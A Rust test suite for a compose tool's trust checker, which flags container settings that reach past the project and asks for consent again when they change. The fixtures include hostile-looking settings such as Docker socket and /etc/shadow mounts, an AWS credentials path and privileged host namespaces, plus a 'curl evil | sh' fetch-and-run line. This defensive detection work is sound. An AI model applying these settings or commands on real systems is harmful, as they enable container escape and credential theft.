//! The table of trust, row by row; and consent.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use serde::de::{self, Deserialize, Deserializer, Visitor};
use serde_json::{Value, json};

use super::boundary::Boundary;
use super::capability::{Kind, Place, Survey};
use super::survey::{Neighbours, World, survey};
use super::table::{self, Row};
use super::verdict::{Change, Given, Verdict, judge};
use crate::model::build::Build;
use crate::model::deploy::{Deploy, Resource, Resources};
use crate::model::environment::Environment;
use crate::model::mount::{BindOptions, Mount, VolumeOptions};
use crate::model::name::ProjectName;
use crate::model::provider::Model;
use crate::model::resource::{Network, SecretSource, Volume};
use crate::model::service::{Hook, Logging, Port, PreStart, Service, ServiceNetwork};
use crate::model::task::{Provision, Task};

/// Learns a struct's field names from its `Deserialize`.
struct FieldNames<'a>(&'a mut &'static [&'static str]);

impl<'de> Deserializer<'de> for FieldNames<'_> {
    type Error = de::value::Error;
    fn deserialize_any<V: Visitor<'de>>(self, _: V) -> Result<V::Value, Self::Error> {
        Err(de::Error::custom("not a struct"))
    }
    fn deserialize_struct<V: Visitor<'de>>(
        self,
        _: &'static str,
        fields: &'static [&'static str],
        _: V,
    ) -> Result<V::Value, Self::Error> {
        *self.0 = fields;
        Err(de::Error::custom("names are enough"))
    }
    serde::forward_to_deserialize_any! {
        bool i8 i16 i32 i64 u8 u16 u32 u64 f32 f64 char str string bytes byte_buf option unit unit_struct
        newtype_struct seq tuple tuple_struct map enum identifier ignored_any
    }
}

fn fields<T: for<'de> Deserialize<'de>>() -> BTreeSet<&'static str> {
    let mut names: &'static [&'static str] = &[];
    let _ = T::deserialize(FieldNames(&mut names));
    assert!(!names.is_empty());
    names.iter().copied().collect()
}

fn same_keys<T: for<'de> Deserialize<'de>>(table: &[Row]) {
    let rows: BTreeSet<&str> = table.iter().map(|row| row.key).collect();
    assert_eq!(rows.len(), table.len(), "a key has two rows");
    assert_eq!(rows, fields::<T>(), "{}: rows and fields differ", std::any::type_name::<T>());
}

#[test]
fn every_field_of_the_model_has_a_row() {
    same_keys::<Service>(table::SERVICE);
    same_keys::<Build>(table::BUILD);
    same_keys::<Deploy>(table::DEPLOY);
    same_keys::<Resources>(table::RESOURCES);
    same_keys::<Resource>(table::RESOURCE);
    same_keys::<Logging>(table::LOGGING);
    same_keys::<Port>(table::PORT);
    same_keys::<Hook>(table::HOOK);
    same_keys::<PreStart>(table::PRE_START);
    same_keys::<Provision>(table::PROVISION);
    same_keys::<Mount>(table::MOUNT);
    same_keys::<BindOptions>(table::BIND);
    same_keys::<VolumeOptions>(table::MOUNTED_VOLUME);
    same_keys::<ServiceNetwork>(table::JOIN);
    same_keys::<Network>(table::NETWORK);
    same_keys::<Volume>(table::VOLUME);
    same_keys::<SecretSource>(table::SOURCE);
    same_keys::<Model>(table::MODEL);
    same_keys::<Task>(table::TASK);
}

struct Project {
    folder: tempfile::TempDir,
    neighbours: Neighbours,
}

impl Project {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir(folder.path().join("shop")).unwrap();
        Self { folder, neighbours: Neighbours::default() }
    }

    fn root(&self) -> PathBuf {
        std::fs::canonicalize(self.folder.path().join("shop")).unwrap()
    }

    /// The environment of a spec in canonical form; a leading `@` stands for the project's folder.
    fn environment(&self, spec: &Value) -> Environment {
        let text = spec.to_string().replace("\"@", &format!("\"{}", self.root().display()));
        let mut spec: Value = serde_json::from_str(&text).unwrap();
        let mut environment = Environment {
            project: Some(ProjectName::parse("shop").unwrap()),
            base_name: "shop".to_owned(),
            working_dir: self.root(),
            ..Environment::default()
        };
        macro_rules! take {
            ($($section:ident)*) => { $(
                if let Some(value) = spec.get_mut(stringify!($section)) {
                    environment.$section = serde_json::from_value(value.take()).unwrap();
                }
            )* };
        }
        take!(services disabled networks volumes secrets configs models tasks config_files env_files);
        environment
    }

    fn survey(&self, spec: &Value) -> Survey {
        let environment = self.environment(spec);
        survey(&World {
            environment: &environment,
            boundary: Boundary::new(&self.root(), Some(Path::new("/home/nobody"))),
            neighbours: Some(&self.neighbours),
            read_files: &[],
            given_files: &[],
            places: &|path| (path == "services.web.volumes[1]").then(|| Place { file: "compose.yaml".into(), line: 7 }),
        })
    }

    fn kinds(&self, spec: &Value) -> Vec<Kind> {
        self.survey(spec).capabilities.into_iter().map(|capability| capability.kind).collect()
    }
}

fn web(keys: &Value) -> Value {
    json!({"services": {"web": keys, "db": {"image": "db"}}, "networks": {"default": {"name": "shop_default"}},
           "volumes": {"data": {"name": "shop_data"}}})
}

#[test]
fn an_everyday_service_is_free() {
    let everyday = web(&json!({
        "build": {"context": "@/app", "dockerfile": "Dockerfile", "args": {"A": "1"}, "target": "dev", "tags": ["shop:dev"],
                  "additional_contexts": {"base": "docker-image://debian", "db": "service:db", "lib": "@/lib"},
                  "cache_from": ["shop:cache", "type=local,src=cache"], "cache_to": ["type=inline"], "network": "none"},
        "image": "shop", "command": ["run"], "container_name": "shop-web", "environment": {"A": "1"},
        "env_file": [{"path": "@/.env.web", "required": false}], "env": "python-3.11",
        "ports": [{"target": 80, "published": "8080", "protocol": "tcp", "mode": "ingress"},
                  {"target": 81, "published": "8081", "host_ip": "127.0.0.1"}, {"target": 82, "host_ip": "::1"}],
        "volumes": [{"type": "bind", "source": "@", "target": "/app", "bind": {"create_host_path": true}},
                    {"type": "volume", "source": "data", "target": "/data", "volume": {"nocopy": true}},
                    {"type": "volume", "target": "/anonymous"}, {"type": "tmpfs", "target": "/t"}],
        "networks": {"default": {"aliases": ["w"]}}, "depends_on": {"db": {"condition": "service_started", "required": true}},
        "healthcheck": {"test": ["CMD", "true"]}, "restart": "always", "cap_drop": ["ALL"], "cap_add": ["CHOWN", "CAP_SETUID"],
        "security_opt": ["no-new-privileges:true"], "sysctls": {"net.core.somaxconn": "1024"}, "ulimits": {"nofile": 9},
        "logging": {"driver": "json-file", "options": {"max-size": "10m"}}, "labels": {"traefik.enable": "true"},
        "deploy": {"replicas": 1, "resources": {"limits": {"cpus": 0.5, "memory": "100"}}},
        "extra_hosts": ["host.docker.internal=host-gateway"], "pid": "service:db", "ipc": "shareable", "network_mode": "none",
        "volumes_from": ["db:ro"], "tmpfs": ["/run"], "shm_size": "64", "user": "1000", "init": true, "oom_score_adj": 100,
        "provision": [{"run": "pip install", "inputs": ["req/*.txt"]}], "post_start": [{"command": ["x"]}], "pre_start": [{"image": "i", "per_replica": true}],
        "develop": {"watch": [{"path": "@/src", "action": "sync", "target": "/src"}]}
    }));
    assert_eq!(Project::new().survey(&everyday).lines(), Vec::<String>::new());
}

#[test]
fn what_leaves_the_project_is_a_capability() {
    use Kind::*;
    let bind = |source: &str| json!({"volumes": [{"type": "bind", "source": source, "target": "/x"}]});
    let cases = [
        (bind("/etc"), FilesOutside),
        (bind("@/.."), FilesOutside),
        (bind("@/../shop2"), FilesOutside),
        (bind("/var/run/docker.sock"), EngineSocket),
        (bind("/run/user/1000/podman/podman.sock"), EngineSocket),
        (
            json!({"volumes": [{"type": "bind", "source": "@", "target": "/x", "bind": {"propagation": "rshared"}}]}),
            Namespace,
        ),
        (json!({"volumes": [{"type": "npipe", "source": "//./pipe/x", "target": "/x"}]}), Unknown),
        (json!({"volumes": [{"type": "volume", "source": "elsewhere", "target": "/x"}]}), SharedVolume),
        (
            json!({"volumes": [{"type": "volume", "target": "/x", "volume": {"labels": {"io.devup.hash": "x"}}}]}),
            Impersonation,
        ),
        (json!({"env_file": [{"path": "/home/ada/.aws/credentials", "required": true}]}), FilesOutside),
        (json!({"build": {"context": "/home/ada"}}), FilesOutside),
        (json!({"build": {"context": "@", "dockerfile": "../../Dockerfile"}}), FilesOutside),
        (json!({"build": {"context": "git@host:shop.git"}}), Keys),
        (json!({"build": {"context": "ssh://host/shop.git"}}), Keys),
        (json!({"build": {"context": "file:///etc"}}), Unknown),
        (json!({"build": {"context": "@", "ssh": ["default"]}}), Keys),
        (json!({"build": {"context": "@", "additional_contexts": {"x": "/etc"}}}), FilesOutside),
        (json!({"build": {"context": "@", "additional_contexts": {"x": "oci-layout:///etc"}}}), FilesOutside),
        (json!({"build": {"context": "@", "additional_contexts": {"x": "service:nobody"}}}), Unknown),
        (json!({"build": {"context": "@", "cache_from": ["type=local,src=/etc"]}}), FilesOutside),
        (json!({"build": {"context": "@", "cache_to": ["type=local,dest=../out"]}}), FilesOutside),
        (json!({"build": {"context": "@", "cache_to": ["type=registry,ref=evil/x"]}}), Keys),
        (json!({"build": {"context": "@", "entitlements": ["security.insecure"]}}), BuildRights),
        (json!({"build": {"context": "@", "privileged": true}}), BuildRights),
        (json!({"build": {"context": "@", "network": "host"}}), Namespace),
        (json!({"build": {"context": "@", "labels": {"com.docker.compose.project": "bank"}}}), Impersonation),
        (json!({"privileged": true}), Privileged),
        (json!({"post_start": [{"command": ["x"], "privileged": true}]}), Privileged),
        (json!({"pre_start": [{"command": ["x"], "privileged": true}]}), Privileged),
        (json!({"devices": [{"source": "/dev/kvm", "target": "/dev/kvm", "permissions": "rwm"}]}), Device),
        (json!({"device_cgroup_rules": ["c 1:3 mr"]}), Device),
        (json!({"gpus": [{"count": -1}]}), Device),
        (json!({"deploy": {"resources": {"reservations": {"devices": [{"capabilities": ["gpu"]}]}}}}), Device),
        (json!({"network_mode": "host"}), Namespace),
        (json!({"network_mode": "container:other"}), ForeignContainer),
        (json!({"network_mode": "bridge"}), SharedNetwork),
        (json!({"network_mode": "slirp4netns:allow_host_loopback=true"}), Namespace),
        (json!({"network_mode": "service:nobody"}), Namespace),
        (json!({"pid": "host"}), Namespace),
        (json!({"pid": "container:other"}), ForeignContainer),
        (json!({"ipc": "host"}), Namespace),
        (json!({"uts": "host"}), Namespace),
        (json!({"cgroup": "host"}), Namespace),
        (json!({"userns_mode": "host"}), Security),
        (json!({"cap_add": ["SYS_ADMIN"]}), KernelCapability),
        (json!({"cap_add": ["all"]}), KernelCapability),
        (json!({"security_opt": ["seccomp:unconfined"]}), Security),
        (json!({"security_opt": ["no-new-privileges:false"]}), Security),
        (json!({"security_opt": ["label=disable"]}), Security),
        (json!({"sysctls": {"kernel.core_pattern": "|/x"}}), KernelSetting),
        (json!({"cgroup_parent": "/"}), KernelSetting),
        (json!({"cpu_rt_runtime": 95000}), KernelSetting),
        (json!({"oom_kill_disable": true}), KernelSetting),
        (json!({"oom_score_adj": -1000}), KernelSetting),
        (json!({"runtime": "nvidia"}), Security),
        (json!({"annotations": {"run.oci.keep_original_groups": "1"}}), Security),
        (json!({"credential_spec": {"file": "x"}}), Security),
        (json!({"isolation": "process"}), Security),
        (json!({"use_api_socket": true}), EngineSocket),
        (json!({"volumes_from": ["container:other:ro"]}), ForeignContainer),
        (json!({"volumes_from": ["nobody"]}), ForeignContainer),
        (json!({"external_links": ["other:db"]}), ForeignContainer),
        (json!({"logging": {"driver": "syslog"}}), HostService),
        (json!({"logging": {"options": {"path": "/etc/cron.d/x"}}}), HostService),
        (json!({"storage_opt": {"overlay.mount": "x"}}), HostService),
        (json!({"models": {"m": null}}), HostService),
        (json!({"provider": {"type": "evil"}}), HostProgram),
        (json!({"labels": {"com.docker.compose.project": "bank"}}), Impersonation),
        (json!({"deploy": {"labels": {"io.devup.version": "1"}}}), Impersonation),
        (json!({"networks": {"elsewhere": null}}), SharedNetwork),
        (
            json!({"networks": {"default": {"driver_opts": {"com.docker.network.endpoint.sysctls": "x"}}}}),
            KernelSetting,
        ),
        (json!({"ports": [{"target": 80, "published": "80", "host_ip": "0.0.0.0"}]}), Publish),
        (json!({"ports": [{"target": 80, "host_ip": "::"}]}), Publish),
        (json!({"ports": [{"target": 80, "host_ip": "192.168.1.4"}]}), Publish),
        (json!({"ports": [{"target": 80, "host_ip": "localhost.evil"}]}), Publish),
        (json!({"env": "../../evil"}), Unknown),
        (json!({"provision": [{"run": "x", "inputs": ["../../*"]}]}), FilesOutside),
        (json!({"develop": {"watch": [{"path": "/etc", "action": "sync"}]}}), FilesOutside),
        (json!({"develop": {"host": "rm"}}), Unknown),
    ];
    let project = Project::new();
    for (keys, kind) in cases {
        assert_eq!(project.kinds(&web(&keys)), [kind], "{keys}");
    }
}

#[test]
fn what_leaves_the_project_at_the_top_is_a_capability() {
    use Kind::*;
    let cases = [
        (json!({"volumes": {"v": {"name": "v", "external": true}}}), SharedVolume),
        (json!({"volumes": {"v": {"name": "shop_v", "driver": "rclone"}}}), HostService),
        (
            json!({"volumes": {"v": {"name": "shop_v", "driver_opts": {"type": "none", "o": "bind", "device": "/etc"}}}}),
            FilesOutside,
        ),
        (
            json!({"volumes": {"v": {"name": "shop_v", "driver_opts": {"o": "bind", "device": "/var/run/docker.sock"}}}}),
            EngineSocket,
        ),
        (
            json!({"volumes": {"v": {"name": "shop_v", "driver_opts": {"type": "nfs", "o": "addr=1", "device": ":/x"}}}}),
            Device,
        ),
        (json!({"volumes": {"v": {"name": "shop_v", "driver_opts": {"type": "ext4", "device": "/dev/sda1"}}}}), Device),
        (
            json!({"volumes": {"v": {"name": "shop_v", "driver_opts": {"type": "overlay", "o": "lowerdir=/etc", "device": "overlay"}}}}),
            Device,
        ),
        (json!({"volumes": {"v": {"name": "shop_v", "driver_opts": {"copy-up": "x"}}}}), HostService),
        (
            json!({"volumes": {"v": {"name": "shop_v", "labels": {"com.docker.compose.project": "bank"}}}}),
            Impersonation,
        ),
        (json!({"networks": {"n": {"name": "n", "external": true}}}), SharedNetwork),
        (json!({"networks": {"n": {"name": "shop_n", "driver": "macvlan"}}}), HostService),
        (
            json!({"networks": {"n": {"name": "shop_n", "driver_opts": {"com.docker.network.bridge.host_binding_ipv4": "0.0.0.0"}}}}),
            HostService,
        ),
        (json!({"networks": {"n": {"name": "shop_n", "ipam": {"driver": "dhcp"}}}}), HostService),
        (json!({"networks": {"n": {"name": "shop_n", "ipam": {"config": [{"subnet": "8.8.8.0/24"}]}}}}), HostService),
        (json!({"secrets": {"s": {"name": "shop_s", "file": "/etc/shadow"}}}), FilesOutside),
        (json!({"configs": {"s": {"name": "shop_s", "file": "@/../x"}}}), FilesOutside),
        (json!({"secrets": {"s": {"name": "s", "external": true}}}), ForeignSecret),
        (json!({"secrets": {"s": {"name": "shop_s", "keyring": "bank/db"}}}), ForeignSecret),
        (json!({"secrets": {"s": {"name": "shop_s", "command": ["pass", "show", "db"]}}}), HostProgram),
        (json!({"config_files": ["/elsewhere/compose.yaml"]}), FilesOutside),
        (json!({"env_files": ["/elsewhere/.env"]}), FilesOutside),
        (json!({"disabled": {"debug": {"image": "x", "privileged": true}}}), Privileged),
    ];
    let project = Project::new();
    for (spec, kind) in cases {
        assert_eq!(project.kinds(&spec), [kind], "{spec}");
    }
    let free = json!({
        "volumes": {"a": {"name": "shop_a", "driver": "local", "driver_opts": {"type": "tmpfs", "device": "tmpfs", "o": "size=1m"}},
                    "b": {"name": "b", "driver_opts": {"type": "none", "o": "bind", "device": "@/data"}}},
        "networks": {"n": {"name": "n", "driver": "bridge", "internal": true, "ipam": {"config": [{"subnet": "172.28.0.0/16"}]}}},
        "secrets": {"s": {"name": "shop_s", "keyring": "db", "generate": 24}, "f": {"name": "shop_f", "file": "@/s"},
                    "e": {"name": "shop_e", "environment": "TOKEN"}},
        "configs": {"c": {"name": "shop_c", "content": "x"}},
        "tasks": {"t": {"service": "web", "run": "x"}},
        "config_files": ["@/compose.yaml"]
    });
    assert_eq!(project.survey(&free).lines(), Vec::<String>::new());
}

#[test]
fn names_that_others_use_are_capabilities() {
    let mut project = Project::new();
    project.neighbours.volumes.insert("bank_data".to_owned());
    project.neighbours.images.insert("postgres:16".to_owned());
    let volume = json!({"volumes": {"v": {"name": "bank_data"}}});
    assert_eq!(project.kinds(&volume), [Kind::SharedVolume]);
    let image = web(&json!({"image": "postgres:16", "build": {"context": "@"}}));
    assert_eq!(project.kinds(&image), [Kind::SharedImage]);
    let run = web(&json!({"image": "postgres:16"}));
    assert_eq!(project.kinds(&run), []);
    let environment = project.environment(&json!({"volumes": {"a": {"name": "shop_a"}, "b": {"name": "b"}}}));
    let unseen = survey(&World {
        environment: &environment,
        boundary: Boundary::new(&project.root(), None),
        neighbours: None,
        read_files: &[],
        given_files: &[],
        places: &|_| None,
    });
    assert_eq!(unseen.capabilities.len(), 1, "nobody looked, so a written name may be another's");
}

#[cfg(unix)]
#[test]
fn links_out_of_the_project_are_followed_and_shown() {
    let project = Project::new();
    std::os::unix::fs::symlink("/etc", project.root().join("conf")).unwrap();
    let bind = json!({"type": "bind", "source": "@/data", "target": "/d"});
    let linked = json!({"type": "bind", "source": "@/conf/ssl", "target": "/x", "read_only": true});
    let spec = web(&json!({"volumes": [bind, linked]}));
    let survey = project.survey(&spec);
    assert_eq!(survey.lines(), ["service web mounts /etc/ssl (by way of conf/ssl), read only"]);
    assert_eq!(survey.capabilities[0].place.as_ref().unwrap().to_string(), "compose.yaml:7");
}

#[cfg(unix)]
#[test]
fn a_link_that_is_turned_after_consent_is_noticed() {
    let project = Project::new();
    let data = project.root().join("data");
    std::fs::create_dir(&data).unwrap();
    let spec = web(&json!({"volumes": [{"type": "bind", "source": "@/data", "target": "/d"}], "privileged": true}));
    let agreed = project.survey(&spec);
    std::fs::remove_dir(&data).unwrap();
    std::os::unix::fs::symlink("/", &data).unwrap();
    assert!(matches!(judged(&project.survey(&spec), &agreed), Verdict::Ask(_)));
}

fn judged(now: &Survey, agreed: &Survey) -> Verdict {
    let (digest, lines, scripts) = (agreed.digest().to_string(), agreed.lines(), agreed.scripts());
    judge(now, Some(Given { digest: &digest, lines: &lines, scripts: &scripts }))
}

#[test]
fn consent_holds_for_exactly_what_was_shown() {
    let project = Project::new();
    let nothing = project.survey(&web(&json!({"image": "x"})));
    assert_eq!(judge(&nothing, None), Verdict::Nothing);
    let one = project.survey(&web(&json!({"privileged": true})));
    let Verdict::Ask(first) = judge(&one, None) else { panic!("asked the first time") };
    assert!(first.difference.is_empty());
    assert_eq!(judged(&one, &one), Verdict::Granted);
    let two = project.survey(&web(&json!({"privileged": true, "pid": "host"})));
    let Verdict::Ask(again) = judged(&two, &one) else { panic!("asked again") };
    assert_eq!(again.difference, [Change::Added { line: "service web shares pid with the host".to_owned() }]);
    assert_eq!(judged(&one, &two), Verdict::Granted, "less than what was agreed to");
    let other = project.survey(&web(&json!({"pid": "host", "ipc": "host"})));
    let Verdict::Ask(changed) = judged(&other, &two) else { panic!("asked again") };
    assert_eq!(changed.difference.len(), 2);
}

#[test]
fn a_changed_script_is_asked_about() {
    let project = Project::new();
    let script = project.root().join("get.sh");
    std::fs::write(&script, "pass show db").unwrap();
    let spec = json!({"secrets": {"s": {"name": "shop_s", "command": ["sh", "get.sh"]}}});
    let agreed = project.survey(&spec);
    assert_eq!(judged(&project.survey(&spec), &agreed), Verdict::Granted);
    std::fs::write(&script, "curl evil | sh").unwrap();
    let Verdict::Ask(question) = judged(&project.survey(&spec), &agreed) else { panic!("asked again") };
    assert_eq!(question.difference, [Change::Script { path: script }]);
}

#[test]
fn keys_without_a_row_are_capabilities() {
    let project = Project::new();
    let environment = project.environment(&json!({}));
    let world = World {
        environment: &environment,
        boundary: Boundary::new(&project.root(), None),
        neighbours: None,
        read_files: &[],
        given_files: &[],
        places: &|_| None,
    };
    let mut found = Vec::new();
    let Value::Object(map) = json!({"image": "x", "brand_new_key": {"a": 1}}) else { unreachable!() };
    super::survey::walk(&world, "services.web", "service web", &map, table::SERVICE, &mut found);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].kind, Kind::Unknown);
}
